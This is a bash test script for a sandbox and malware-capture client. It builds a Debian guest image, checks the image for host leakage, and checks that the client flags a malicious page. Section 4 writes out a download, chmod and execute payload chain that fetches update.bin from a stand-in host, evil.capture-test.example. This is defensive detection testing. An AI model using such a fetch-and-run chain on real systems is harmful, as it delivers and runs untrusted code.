#!/bin/bash
# test-capture-image-build.sh [--prepare] CAPTURE-IMAGE BUILD-ROOT CACHE-DIR -
# a real guest image (issue 3).  With --prepare (the set-up of `make check`,
# beside install-deps: the only step that talks to the network, to the host's
# own Debian mirror) it builds the image with capture-image build (debootstrap
# + wget) if it is not there yet, and stops.  Without it (the meson test,
# which sends nothing outside its own namespaces) it needs that image, and
# checks
#   1. clean failures (bad mirror, DIR not empty, a foreign DIR.tmp) leave nothing,
#   2. the image: marker, user 64000 and its home, wget, no host files,
#   3. the sandbox library (capture-sandbox run -i) uses it as the lower layer,
#   4. capture-client --image with the bundled test web: a benign page fetched
#      by the image's wget gives no event; a malicious page (capture-testapp
#      bound in) that downloads, marks executable and runs a payload with the
#      image's wget gives exactly those events.
# The image is kept in CACHE-DIR/guest-image-KEY (KEY: a hash of the
# capture-image script and the packages) and reused by later runs of the same
# script version; older versions are removed.  Root; takes the sandbox tests'
# lock (sbt_lock) for the whole run.
set -uo pipefail
prepare=0
[ "${1:-}" = --prepare ] && { prepare=1; shift; }
img=$(realpath "${1:?usage: test-capture-image-build.sh CAPTURE-IMAGE BUILD-ROOT CACHE-DIR}")
build=$(realpath "${2:?}")
cache=$(realpath "${3:?}")
top=$(cd "$(dirname "$0")/../.." && pwd)
client=$build/src/client/capture-client
cs=$build/src/sandbox/capture-sandbox
testapp=$build/tests/fixtures/capture-testapp
apps=wget
fails=0
ok() { echo "ok - $*"; }
fail() { echo "not ok - $*"; fails=$((fails + 1)); }
check() { if [ "$2" = "$3" ]; then ok "$1"; else fail "$1: expected [$2] got [$3]"; fi; }

mkdir -p /run/capture
exec 9>>/run/capture/sandbox-test.lock
flock 9
[ "$(id -u)" = 0 ] || { echo "needs root"; exit 1; }
command -v debootstrap >/dev/null || { echo "debootstrap is not installed (scripts/install-deps)"; exit 1; }

key=$( (cat "$img"; echo "apps=$apps") | sha256sum | cut -c1-16)
guest=$cache/guest-image-$key
mounted() { awk -v p="$1" '$5 == p || index($5, p "/") == 1' /proc/self/mountinfo | grep -q .; }
if [ $prepare = 1 ]; then
	# images of older script versions (and their leftovers) go
	for d in "$cache"/guest-image-*; do
		[ -e "$d" ] || continue
		case ${d##*/} in "guest-image-$key" | "guest-image-$key.tmp") continue ;; esac
		[[ ${d##*/} =~ ^guest-image-[0-9a-f]{16}(\.tmp)?$ ]] || continue
		mounted "$d" && { echo "mounts under $d: not removed"; continue; }
		rm -rf --one-file-system "$d"
	done

	if [ -f "$guest/etc/capture-image" ]; then
		echo "# reusing $guest"
	else
		echo "# building $guest (debootstrap minbase + $apps from $("$img" mirror))"
		t0=$(date +%s)
		"$img" build "$guest" --apps "$apps" >"$cache/build.log" 2>&1
		rc=$?
		echo "# build: exit $rc in $(($(date +%s) - t0)) s; $(tail -n1 "$cache/build.log")"
		[ $rc = 0 ] || { tail -n 30 "$cache/build.log"; echo "not ok - capture-image build"; exit 1; }
		ok "capture-image build"
	fi
	exit 0
fi

# ---- 1. failures leave nothing behind ----
bad=$cache/guest-image-fail
rm -rf --one-file-system "$bad" "$bad.tmp"
# a mirror that refuses connections (loopback port 9, nothing listens)
err=$("$img" build "$bad" --apps "$apps" --mirror http://127.0.0.1:9/debian 2>&1 >/dev/null)
check "unreachable mirror fails" 1 $?
grep -q "^capture-image: failed; nothing left at $bad" <<<"$err" || fail "no failure message: $err"
[ ! -e "$bad" ] && [ ! -e "$bad.tmp" ] && ! mounted "$bad" && ok "nothing left after a failed build" ||
	fail "left behind: $(ls -d "$bad"* 2>&1)"
mkdir -p "$bad" && echo keep > "$bad/file"
"$img" build "$bad" --apps "$apps" 2>"$cache/err" >/dev/null
check "non-empty DIR refused" 1 $?
grep -q "not an empty folder" "$cache/err" && [ "$(cat "$bad/file")" = keep ] && [ ! -e "$bad.tmp" ] &&
	ok "non-empty DIR untouched" || fail "non-empty DIR: $(cat "$cache/err")"
rm -rf "$bad"
mkdir -p "$bad.tmp" && echo keep > "$bad.tmp/file"
"$img" build "$bad" --apps "$apps" 2>"$cache/err" >/dev/null
check "foreign DIR.tmp refused" 1 $?
grep -q "not a leftover of capture-image" "$cache/err" && [ "$(cat "$bad.tmp/file")" = keep ] && [ ! -e "$bad" ] &&
	ok "foreign DIR.tmp untouched" || fail "foreign DIR.tmp: $(cat "$cache/err")"
rm -rf "$bad.tmp" "$cache/err"

# ---- the image: built by --prepare, needed here ----
if [ ! -f "$guest/etc/capture-image" ]; then
	echo "not ok - no guest image at $guest: make check builds it in its set-up" \
		"($0 --prepare $*)"
	exit 1
fi
echo "# image $guest"
[ ! -e "$guest.tmp" ] && ! mounted "$guest" && ok "no build leftovers" || fail "build leftovers"

# ---- 2. the image on disk ----
. /etc/os-release
check "marker suite" "suite=$VERSION_CODENAME" "$(grep '^suite=' "$guest/etc/capture-image")"
check "marker mirror" "mirror=$("$img" mirror)" "$(grep '^mirror=' "$guest/etc/capture-image")"
check "marker apps" "apps=$apps" "$(grep '^apps=' "$guest/etc/capture-image")"
check "passwd" "capture:x:64000:64000:Capture sandbox user:/home/capture:/bin/sh" \
	"$(grep '^capture:' "$guest/etc/passwd")"
check "group" "capture:x:64000:" "$(grep '^capture:' "$guest/etc/group")"
check "home" "64000:64000 750" "$(stat -c '%u:%g %a' "$guest/home/capture")"
[ -x "$guest/usr/bin/wget" ] && ok "wget installed" || fail "no wget in the image"
[ -x "$guest/usr/bin/apt-get" ] && [ -x "$guest/bin/sh" ] && ok "minbase" || fail "not a minbase system"
check "own hostname" "sandbox" "$(cat "$guest/etc/hostname")"
cmp -s "$guest/etc/resolv.conf" /etc/resolv.conf && fail "the host's resolv.conf is in the image" ||
	ok "not the host's resolv.conf"
check "apt lists and caches dropped" 0 "$(find "$guest/var/lib/apt/lists" "$guest/var/cache/apt" -type f | wc -l)"
check "no build leftovers inside" "" "$(ls -d "$guest/.capture-image-partial" "$guest/debootstrap" 2>/dev/null)"
# nothing of the host: this checkout, the build dir, root's files, ssh host keys
[ ! -e "$guest/work" ] && [ ! -e "$guest$top" ] && [ ! -e "$guest$build" ] && ok "no project folders" ||
	fail "project folders in the image"
check "/root holds only the skeleton" ".bashrc .profile" "$(ls -A "$guest/root" | tr '\n' ' ' | sed 's/ $//')"
check "no ssh host keys" "" "$(ls "$guest"/etc/ssh/ssh_host_* 2>/dev/null)"
keys=$(cat /etc/ssh/ssh_host_*_key.pub 2>/dev/null | awk '{ print $2 }')
if [ -n "$keys" ]; then
	grep -rlF --no-messages -e "$keys" "$guest" >/dev/null && fail "a host ssh key is in the image" ||
		ok "no host ssh key material"
fi

# ---- 3. the sandbox's lower layer ----
[ -e /usr/bin/meson ] && [ ! -e /etc/capture-image ] || fail "host preconditions: /usr/bin/meson, no /etc/capture-image"
out=$("$cs" run -i "$guest" -- /bin/sh -c '
	grep "^apps=" /etc/capture-image
	. /etc/os-release; echo "codename=$VERSION_CODENAME"
	test -e /usr/bin/meson && echo "host file visible"
	id -un; echo "home=$HOME"; touch "$HOME/w" && echo "home writable"
	/usr/bin/wget --version | head -n1' 2>&1)
check "sandbox on the image" "apps=$apps
codename=$VERSION_CODENAME
capture
home=/home/capture
home writable
$(chroot "$guest" /usr/bin/wget --version | head -n1)" "$out"
"$cs" run -- /bin/sh -c 'test -e /etc/capture-image'
check "the default lower (host /) has no marker" 1 $?

# ---- 4. capture-client --image against the test web ----
BUILD="$build" "$top/scripts/testweb" --no-doc start >/dev/null || { echo "testweb failed"; exit 1; }
rm -rf "$cache/client-work"
args=(--image "$guest" --exclusions "$top/etc/exclusion" --applications "$top/etc/applications.conf"
      --work-dir "$cache/client-work")
while read -r addr name; do args+=(--host "$addr=$name"); done < <(BUILD="$build" "$top/scripts/testweb" hosts)
W=http://www.capture-test.example
E=http://evil.capture-test.example
export ASAN_OPTIONS=detect_leaks=0

out=$("$client" "${args[@]}" --all-events --program wget --visit "$W/plain.html" 2>&1); rc=$?
check "benign: exit" 0 $rc
grep -q '^"verdict","'"$W"'/plain.html","safe"' <<<"$out" || fail "benign: verdict: $out"
grep -q '^"event"' <<<"$out" && fail "benign: events: $(grep '^"event"' <<<"$out")"
grep -q '^"excluded","[^"]*","file","Create","[0-9]*","/usr/bin/wget","/home/capture/wget-download"' <<<"$out" &&
	ok "benign: the image's wget fetched the page, no event" || fail "benign: wget did not save the page: $out"

# the payload chain, run by the "exploited browser": the image's wget
# downloads the executable, it is made executable and run; then a shell
# of the image proves where it runs (the marker is there, a host-only file not)
script="exec /usr/bin/wget -q -O /tmp/update.bin $E/payload/update.bin; chmod /tmp/update.bin 755; exec /tmp/update.bin;"
script+=" exec /bin/sh -c test\\ -e\\ /etc/capture-image\\ &&\\ test\\ !\\ -e\\ /usr/bin/meson\\ &&\\ touch\\ /tmp/guest-image-seen"
q=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1]))' "$script")
url="$E/testapp/run?script=$q"
out=$("$client" "${args[@]}" --program testapp --bind "$testapp:/usr/local/bin/capture-testapp" \
	--visit "$url" 2>&1); rc=$?
check "malicious: exit" 1 $rc
grep -qF '"verdict","'"$url"'","malicious"' <<<"$out" || fail "malicious: verdict: $out"
# pids may say -1 (unknown: reaped before the monitor read it, docs/monitors.md)
want=(
	'"process","created","-\{0,1\}[0-9]*","/usr/local/bin/capture-testapp","-\{0,1\}[0-9]*","/usr/bin/wget"'
	'"file","Create","-\{0,1\}[0-9]*","/usr/bin/wget","/tmp/update.bin"'
	'"file","Write","-\{0,1\}[0-9]*","/usr/bin/wget","/tmp/update.bin"'
	'"file","Chmod","-\{0,1\}[0-9]*","/usr/local/bin/capture-testapp","/tmp/update.bin","+x"'
	'"process","created","-\{0,1\}[0-9]*","/usr/local/bin/capture-testapp","-\{0,1\}[0-9]*","/tmp/update.bin"'
	'"file","Create","-\{0,1\}[0-9]*","/usr/bin/touch","/tmp/guest-image-seen"'
)
for w in "${want[@]}"; do
	grep -q '^"event","[^"]*",'"$w" <<<"$out" && ok "malicious: event $w" || fail "malicious: no event $w"
done
grep '^"event"' <<<"$out" | grep -v -e '"/tmp/update.bin"' -e '"/tmp/guest-image-seen"' \
	-e '"/usr/bin/wget"' -e '"/usr/bin/dash"' -e '"/usr/bin/touch"' |
	grep . && fail "malicious: unexpected events (above)"
[ $fails = 0 ] && ok "all"
exit $((fails > 0))
